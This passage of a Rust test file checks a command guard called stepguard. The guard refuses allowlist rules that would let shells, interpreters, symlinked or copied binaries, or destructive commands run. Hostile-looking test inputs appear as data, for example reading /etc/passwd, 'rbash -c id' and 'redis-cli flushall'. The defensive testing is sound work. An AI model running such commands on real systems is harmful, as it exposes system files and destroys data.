        assert!(e.contains(why), "{program} {a:?}: {e}");
    }
    assert!(s.load().unwrap().is_empty(), "nothing was stored");
    // New top-level commands (plugins) stay possible.
    add(&s, "kubectl", &["krew", "list"]);
    add(&s, "kubectl", &["get-something-new", "*"]);
    add(&s, "docker", &["compose", "ps"]);

    // A hand-edited rules file is judged the same way at every use.
    let rules = vec![
        raw("ddddddd1", "rbash", &["-c", "*"]),
        raw("ddddddd2", "kubectl", &["config", "use", "*"]),
        raw("ddddddd3", "helm", &["un", "*"]),
        raw("ddddddd4", "vim.basic", &["*"]),
    ];
    for line in [
        "rbash -c id",
        "kubectl config use prod",
        "helm un web",
        "vim.basic /etc/passwd",
    ] {
        let d = check_with_rules(line, &rules, NOW);
        assert_refused(&d, line);
    }
}

/// What a name is on this machine decides, not the name: links and copies
/// of refused programs, scripts for refused interpreters, multi-call
/// binaries, another name for a program the allowlist checks, kubectl
/// plugins.
#[test]
fn a_rule_is_judged_by_what_its_program_resolves_to() {
    let bin = Bin::new();
    let (_d, s) = bin.store();
    bin.link("mytool", &system("bash"));
    bin.link("mysh", std::path::Path::new("/bin/sh"));
    bin.copy("copytool", &system("dash"));
    bin.script("wrapper", "#!/bin/sh\nexec \"$@\"\n");
    bin.script("pytool", "#!/usr/bin/env python3\nimport sys\n");
    bin.script("envtool", "#!/usr/bin/env -S bash -e\necho hi\n");
    bin.script("awktool", "#!/usr/bin/awk -f\n{ print }\n");
    bin.link("mycat", &system("cat"));
    bin.copy("busybox", &system("true"));
    bin.link("tinybox", &bin.path("busybox"));
    bin.link("kubectl-krew", &system("bash"));
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "mytool",
            &["-c", "*"],
            "is 'bash', which escapes to a shell",
        ),
        ("mysh", &["-c", "*"], "is 'dash', which escapes to a shell"),
        (
            "copytool",
            &["-c", "*"],
            "is 'dash', which escapes to a shell",
        ),
        ("wrapper", &["*", "*"], "its interpreter '/bin/sh'"),
        ("pytool", &["*"], "'python3', which starts an interpreter"),
        ("envtool", &["*"], "'bash', which escapes to a shell"),
        ("awktool", &["*"], "which the allowlist checks itself"),
        (
            "mycat",
            &["*"],
            "is 'cat', which the allowlist checks itself",
        ),
        ("tinybox", &["sh"], "'busybox', which runs any applet"),
        ("kubectl", &["krew", "*"], "'kubectl-krew'"),
    ];
    for (program, a, why) in cases {
        let e = refused_add(&s, program, a);
        assert!(e.contains(why), "{program} {a:?}: {e}");
    }
    // What a wrapper script runs is its interpreter.
    let e = refused_add(&s, "wrapper", &["*"]);
    assert!(e.contains("is a script") && e.contains("dash"), "{e}");
    assert!(s.load().unwrap().is_empty(), "nothing was stored");

    // An ordinary program, and a plugin that is one, are fine.
    bin.copy("myarch", &system("arch"));
    bin.copy("kubectl-ns", &system("arch"));
    let ok = add(&s, "myarch", &["*"]);
    add(&s, "kubectl", &["ns", "*"]);
    assert!(standing::check(&s, "myarch x", NOW).allowed);

    // The file behind the name changes after the rule was added: the rule
    // is judged again when it is used, and refuses.
    bin.link("myarch", &system("bash"));
    let d = standing::check(&s, "myarch x", NOW);
    assert_refused(&d, "myarch x");
    assert!(
        d.reason
            .contains(&format!("standing rule {} is not valid", ok.id))
            && d.reason.contains("'bash'"),
        "{}",
        d.reason
    );
    bin.copy("myarch", &system("arch"));
    assert!(standing::check(&s, "myarch x", NOW).allowed);
    bin.script("myarch", "#!/bin/bash\necho $1\n");
    assert_refused(&standing::check(&s, "myarch x", NOW), "myarch x");
}

/// `stepguard rules add` looks the program up on its own `PATH`.
#[test]
fn rules_add_refuses_what_path_makes_of_a_name() {
    let bin = Bin::new();
    bin.link("mysh", &system("bash"));
    let state = tempfile::tempdir().unwrap();
    let rules_add = |program: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_stepguard"))
            .args(["rules", "add", "--reason", "test", "--", program, "-c", "*"])
            .env("PATH", bin.dir.path())
            .env("STEPGUARD_STATE_DIR", state.path())
            .output()
            .unwrap()
    };
    for program in ["mysh", "rbash"] {
        let out = rules_add(program);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{program}: {stderr}");
        assert!(stderr.contains("escapes to a shell"), "{program}: {stderr}");
    }
    assert!(RuleStore::new(state.path()).load().unwrap().is_empty());
}

// --- the guard without rules is unchanged -----------------------------------

#[test]
fn no_rules_is_exactly_check() {
    let unrelated = vec![
        raw("ccccccc1", "mytool", &["*"]),
        raw("ccccccc2", "consul", &["re:.*", "re:.*"]),
    ];
    let mut n = 0;
    for line in corpus(HOSTILE).chain(corpus(BENIGN)) {
        let plain = check(line);
        assert_eq!(check_with_rules(line, &[], NOW), plain, "{line}");
        assert_eq!(plain.rule, None);
        assert!(plain.rule_uses.is_empty());
        if !line.contains("mytool") && !line.contains("consul") {
            assert_eq!(check_with_rules(line, &unrelated, NOW), plain, "{line}");
        }
        n += 1;
    }
    assert!(n > 100, "the corpus has {n} lines");
    // Every hostile line stays refused with the rules present.
    for line in corpus(HOSTILE) {
        assert!(!check_with_rules(line, &unrelated, NOW).allowed, "{line}");
    }
}

/// `cargo test --test integration standing_rules::print_every_decision --
/// --ignored --nocapture` prints every hostile decision and every refused
/// `add`, for reviewing the reasons.
#[test]
#[ignore]
fn print_every_decision() {
    let rules = vec![
        raw("aaaaaaa1", "mytool", &["*"]),
        raw("aaaaaaa2", "mytool", &["re:[a-z]+"]),
        raw("aaaaaaa3", "mytool", &["-v"]),
    ];
    for line in HOSTILE_WITH_RULES {
        println!(
            "{line:?}\n    {}",
            check_with_rules(line, &rules, NOW).reason
        );
    }
    let (_d, s) = store();
    for (program, a) in [
        ("sh", &["-c", "*"][..]),
        ("python3", &["*"]),
        ("kubectl", &["delete", "pod", "*"]),
        ("redis-cli", &["flushall"]),
        ("psql", &["-c", "*"]),
        ("cat", &["*"]),
        ("kubectl", &["*"]),
        ("kubectl", &["get", "*"]),
        ("fc", &["-s"]),
        ("mytool", &["re:a)|(b"]),
    ] {
        let e = standing::add(&s, program, &args(a), None, None, "r", "c", NOW).unwrap_err();
        println!("add {program} {a:?}\n    {e}");
    }
}
